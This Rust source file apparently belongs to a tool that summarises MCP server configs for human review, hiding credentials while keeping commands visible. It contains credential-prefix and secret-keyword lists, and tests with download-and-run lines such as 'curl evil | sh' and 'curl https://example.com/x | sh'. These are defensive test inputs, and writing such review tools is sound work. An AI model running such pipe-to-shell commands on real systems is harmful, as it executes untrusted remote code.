//! What a config would start, for a person who decides whether to trust it.
//!
//! Variables stay as they are written, so a reviewer sees `${URL:-https://example.com}` and not what
//! it happens to be now. Values of variables and headers, credentials in addresses, and arguments
//! that look like credentials are `***`.

use serde::{Deserialize, Serialize};

use super::file::ConfigError;
use super::source::hex;
use super::{Arguments, Config, ConfigProblem, ConfigSource, ServerConfig, StartMode};
use crate::transport::TransportKind;

/// What stands where a value is not shown.
const HIDDEN: &str = "***";

/// Parts of the names of options whose value is a credential.
const SECRET_WORDS: &[&str] = &[
    "token",
    "secret",
    "password",
    "passwd",
    "apikey",
    "accesskey",
    "authkey",
    "privatekey",
    "credential",
    "bearer",
];

/// How well-known credentials begin.
const SECRET_PREFIXES: &[&str] = &[
    "sk-",
    "ghp_",
    "gho_",
    "ghs_",
    "ghu_",
    "github_pat_",
    "glpat-",
    "xoxb-",
    "xoxp-",
    "xapp-",
    "AKIA",
    "AIza",
    "hf_",
    "npm_",
    "eyJ",
];

/// A shorter text is not taken for a credential.
const SHORTEST_CREDENTIAL: usize = 8;

/// What a config would start, without its secrets.
///
/// ```
/// use mcpvisor::config::{ConfigSource, Review};
///
/// let text = r#"{ "mcpServers": { "a": { "command": "sh", "args": ["-c", "curl $URL | sh"] } } }"#;
/// let review = Review::of(&ConfigSource::new(".mcp.json", text))?;
/// assert_eq!(review.servers[0].facts[0].label, "command");
/// assert_eq!(review.servers[0].facts[0].value, "sh -c 'curl $URL | sh'");
/// # Ok::<(), mcpvisor::config::ConfigError>(())
/// ```
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
#[non_exhaustive]
pub struct Review {
    /// The servers, in the order of their entries.
    pub servers: Vec<ReviewedServer>,
    /// The folder in which the config wants state to be kept, if it names one.
    #[serde(default)]
    pub state_dir: Option<String>,
}

/// One entry of a config.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[non_exhaustive]
pub struct ReviewedServer {
    /// The server's name.
    pub name: String,
    /// What it would run, or where it would connect.
    pub facts: Vec<Fact>,
    /// A hash of the whole entry: two entries with the same facts may differ in what is not shown.
    pub fingerprint: String,
}

/// One line about a server.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[non_exhaustive]
pub struct Fact {
    /// What it is about, such as `command`.
    pub label: String,
    /// What it is. It comes from the config: make it printable before showing it.
    pub value: String,
}

impl Review {
    /// Reviews a config. Entries that cannot be used are in it too, with the reason.
    pub fn of(source: &ConfigSource) -> Result<Self, ConfigError> {
        let config = Config::as_written(source)?;
        let mut servers: Vec<ReviewedServer> = config.servers.iter().map(server).collect();
        let unusable = config.problems.iter().filter_map(|problem| {
            let name = problem.server.as_ref()?;
            let known = config.servers.iter().any(|it| it.name.as_str() == name);
            (!known).then(|| unusable(name, problem))
        });
        servers.extend(unusable);
        Ok(Self {
            servers,
            state_dir: config
                .state_dir
                .map(|folder| folder.to_string_lossy().into_owned()),
        })
    }

    /// The review of one server.
    pub fn server(&self, name: &str) -> Option<&ReviewedServer> {
        self.servers.iter().find(|server| server.name == name)
    }
}

impl ReviewedServer {
    /// The value of a fact.
    pub fn fact(&self, label: &str) -> Option<&str> {
        let fact = self.facts.iter().find(|fact| fact.label == label)?;
        Some(&fact.value)
    }
}

fn unusable(name: &str, problem: &ConfigProblem) -> ReviewedServer {
    ReviewedServer {
        name: name.to_owned(),
        facts: vec![fact("unusable", problem.message.clone())],
        fingerprint: hex(problem.message.as_bytes()),
    }
}

fn fact(label: &str, value: impl Into<String>) -> Fact {
    Fact {
        label: label.to_owned(),
        value: value.into(),
    }
}

fn server(server: &ServerConfig) -> ReviewedServer {
    let (mut facts, hidden) = transport(server);
    if !server.enabled {
        facts.push(fact("enabled", "no"));
    }
    if server.start == StartMode::Lazy {
        facts.push(fact("start", "lazy"));
    }
    if server.settings.retry.trusted {
        facts.push(fact("annotations", "trusted"));
    }
    if server.pin {
        facts.push(fact("pinned", "yes"));
    }
    let document = server.to_json(Arguments::Shown).unwrap_or_default();
    let whole = serde_json::json!([document, hidden]).to_string();
    ReviewedServer {
        name: server.name.to_string(),
        facts,
        fingerprint: hex(whole.as_bytes()),
    }
}

/// What is shown of how a server is reached, and all of it.
fn transport(server: &ServerConfig) -> (Vec<Fact>, Vec<String>) {
    let mut facts = Vec::new();
    let mut whole = Vec::new();
    match &server.transport.0 {
        #[cfg(feature = "stdio")]
        TransportKind::Stdio(command) => {
            let parts = command.parts();
            let line = std::iter::once(parts.program.clone().into_owned());
            let line: Vec<String> = line.chain(redacted(&parts.args)).collect();
            let line: Vec<String> = line.iter().map(|word| quoted(word)).collect();
            facts.push(fact("command", line.join(" ")));
            facts.extend(parts.cwd.as_ref().map(|cwd| fact("in", cwd.as_str())));
            let names = parts.env.iter().map(|(name, _)| name.as_str());
            facts.extend(listed("sets", names));
            let inherited = parts.inherit.iter().map(String::as_str);
            facts.extend(listed("inherits", inherited));
            whole.extend(parts.args.iter().cloned());
            whole.extend(
                parts
                    .env
                    .into_iter()
                    .flat_map(|(name, value)| [name, value]),
            );
        }
        #[cfg(feature = "http")]
        TransportKind::Http(endpoint) => {
            let parts = endpoint.parts();
            facts.push(fact("url", address(parts.url)));
            let names = parts.headers.iter().map(|(name, _)| *name);
            facts.extend(listed("headers", names));
            if parts.bearer_env.is_some() {
                facts.push(fact("token in", parts.shown_bearer_env.unwrap_or(HIDDEN)));
            }
            let certificates = parts.root_certificates.iter().map(String::as_str);
            facts.extend(listed("trusts certificates", certificates));
            let own = parts.client_certificate.iter().map(String::as_str);
            facts.extend(listed("shows certificate", own));
            whole.push(parts.url.to_owned());
            let headers = parts.headers.iter();
            whole.extend(headers.flat_map(|(name, value)| [*name, *value].map(str::to_owned)));
        }
        TransportKind::Channel { label, .. } => facts.push(fact("transport", *label)),
    }
    (facts, whole)
}

/// Names in one line, if there are any.
fn listed<'n>(label: &str, names: impl Iterator<Item = &'n str>) -> Option<Fact> {
    let names: Vec<String> = names.map(quoted).collect();
    (!names.is_empty()).then(|| fact(label, names.join(" ")))
}

/// Arguments without what looks like a credential. Only a single word of the characters of tokens is
/// hidden: a command that a shell would run is always shown.
fn redacted(args: &[String]) -> Vec<String> {
    let mut shown = Vec::with_capacity(args.len());
    let mut names_secret = false;
    for arg in args {
        let (option, value) = match arg.split_once('=') {
            Some((option, value)) if is_option(option) => (Some(option), value),
            _ => (None, arg.as_str()),
        };
        let of_secret = names_secret || option.is_some_and(names_a_secret);
        let hide = (of_secret && is_token(value)) || is_known_credential(value);
        shown.push(match (hide, option) {
            (false, _) => arg.clone(),
            (true, Some(option)) => format!("{option}={HIDDEN}"),
            (true, None) => HIDDEN.to_owned(),
        });
        names_secret = is_option(arg) && names_a_secret(arg);
    }
    shown
}

/// Whether a word is an option, or the name of a variable that is set on the command line.
fn is_option(word: &str) -> bool {
    let name = word.trim_start_matches('-');
    let plain = |c: char| c.is_ascii_alphanumeric() || c == '-' || c == '_';
    !name.is_empty() && name.chars().all(plain) && (name.len() < word.len() || name.contains('_'))
}

fn names_a_secret(option: &str) -> bool {
    let name = option.replace(['-', '_'], "").to_ascii_lowercase();
    SECRET_WORDS.iter().any(|word| name.contains(word))
}

/// Whether a text can be a credential: one word that is neither a path, nor an address, nor a
/// reference to a variable.
fn is_token(text: &str) -> bool {
    let plain = |c: char| c.is_ascii_alphanumeric() || "_-.+/=~:".contains(c);
    text.len() >= SHORTEST_CREDENTIAL
        && text.chars().all(plain)
        && !text.starts_with(['/', '.', '-'])
        && !text.contains("://")
}

fn is_known_credential(text: &str) -> bool {
    let known = SECRET_PREFIXES
        .iter()
        .any(|prefix| text.starts_with(prefix));
    known && text.len() >= 2 * SHORTEST_CREDENTIAL && is_token(text)
}

/// An address without its user info and without the values of its query.
fn address(url: &str) -> String {
    let (rest, fragment) = match url.split_once('#') {
        Some((rest, _)) => (rest, "#***"),
        None => (url, ""),
    };
    let (place, query) = match rest.split_once('?') {
        Some((place, query)) => (place, Some(query)),
        None => (rest, None),
    };
    let (scheme, place) = match place.split_once("://") {
        Some((scheme, place)) => (format!("{scheme}://"), place),
        None => (String::new(), place),
    };
    let (authority, path) = place.split_at(place.find('/').unwrap_or(place.len()));
    let authority = match authority.rsplit_once('@') {
        Some((_, host)) => format!("{HIDDEN}@{host}"),
        None => authority.to_owned(),
    };
    let query = query.map_or_else(String::new, |query| {
        let pairs = query.split('&').map(|pair| match pair.split_once('=') {
            Some((name, _)) => format!("{name}={HIDDEN}"),
            None => HIDDEN.to_owned(),
        });
        format!("?{}", pairs.collect::<Vec<_>>().join("&"))
    });
    format!("{scheme}{authority}{path}{query}{fragment}")
}

/// A text as one word of a shell.
fn quoted(text: &str) -> String {
    let plain = |c: char| c.is_ascii_alphanumeric() || "-_./+,:@%=*{}$".contains(c);
    match !text.is_empty() && text.chars().all(plain) {
        true => text.to_owned(),
        false => format!("'{}'", text.replace('\'', r"'\''")),
    }
}

#[cfg(all(feature = "stdio", feature = "http"))]
#[cfg(test)]
mod tests {
    use super::*;

    fn review(servers: &serde_json::Value) -> Review {
        let text = serde_json::json!({ "mcpServers": servers }).to_string();
        Review::of(&ConfigSource::new("mcp.json", text)).unwrap()
    }

    fn command(entry: &serde_json::Value) -> String {
        let review = review(&serde_json::json!({ "a": entry }));
        review.servers[0].fact("command").unwrap().to_owned()
    }

    #[test]
    fn every_argument_of_a_command_is_shown() {
        let entry = serde_json::json!({
            "command": "bash", "args": ["-c", "curl https://example.com/x | sh"],
            "env": { "TOKEN": "canary-1" }, "inheritEnv": ["GH_TOKEN"], "cwd": "/srv",
        });
        let review = review(&serde_json::json!({ "a": entry }));
        let facts: Vec<(&str, &str)> = review.servers[0]
            .facts
            .iter()
            .map(|fact| (fact.label.as_str(), fact.value.as_str()))
            .collect();
        assert_eq!(
            facts,
            [
                ("command", "bash -c 'curl https://example.com/x | sh'"),
                ("in", "/srv"),
                ("sets", "TOKEN"),
                ("inherits", "GH_TOKEN"),
            ]
        );
    }

    #[test]
    fn references_and_their_defaults_are_shown_as_written() {
        let entry = serde_json::json!({
            "command": "${SHELL_X}", "args": ["-c", "${RUN:-curl evil | sh}", "${env:A}"],
            "reconnect": { "within": "${WITHIN}" },
        });
        assert_eq!(
            command(&entry),
            "${SHELL_X} -c '${RUN:-curl evil | sh}' ${env:A}"
        );
        let review = review(&serde_json::json!({ "a": { "url": "${BASE:-https://evil}/mcp" } }));
        assert_eq!(
            review.servers[0].fact("url"),
            Some("${BASE:-https://evil}/mcp")
        );
    }

    #[test]
    fn credentials_are_hidden_and_commands_are_not() {
        let args = |args: &[&str]| command(&serde_json::json!({ "command": "x", "args": args }));
        assert_eq!(args(&["--token", "abc12345xyz"]), "x --token ***");
        assert_eq!(args(&["--api-key=abc12345"]), "x --api-key=***");
        assert_eq!(args(&["API_KEY=abc12345"]), "x API_KEY=***");
        assert_eq!(args(&["ghp_0123456789abcdef"]), "x ***");
        for shown in [
            &["--token", "x 12345678; curl"][..],
            &["--token", "/tmp/evil12345"],
            &["--token", "https://evil/12345"],
            &["--token", "${TOKEN_12345}"],
            &["--name", "abc12345xyz"],
            &["evil12345.sh"],
            &["--token", "short"],
        ] {
            assert!(!args(shown).contains(HIDDEN), "{shown:?}");
        }
        let url = "https://me:pw@example.com/mcp?key=abc&x#y";
        let review = review(&serde_json::json!({ "a": {
            "url": url, "headers": { "Authorization": "Bearer canary" },
            "bearerTokenEnvVar": "MY_TOKEN" } }));
        let server = &review.servers[0];
        assert_eq!(
            server.fact("url"),
            Some("https://***@example.com/mcp?key=***&***#***")
        );
        assert_eq!(server.fact("headers"), Some("Authorization"));
        assert_eq!(server.fact("token in"), Some("MY_TOKEN"));
    }

    #[test]
    fn a_change_of_what_is_not_shown_changes_the_fingerprint() {
        let of = |value: &str| {
            let entry = serde_json::json!({ "command": "x", "env": { "NODE_OPTIONS": value } });
            review(&serde_json::json!({ "a": entry })).servers.remove(0)
        };
        let (one, other) = (of("--require ./a.js"), of("--require ./b.js"));
        assert_eq!(one.facts, other.facts);
        assert_ne!(one.fingerprint, other.fingerprint);
        assert_eq!(one, of("--require ./a.js"));
    }

    #[test]
    fn an_entry_that_cannot_be_used_is_reviewed_too() {
        let review = review(&serde_json::json!({ "a": { "command": 5 } }));
        assert_eq!(review.servers[0].facts[0].label, "unusable");
    }
}
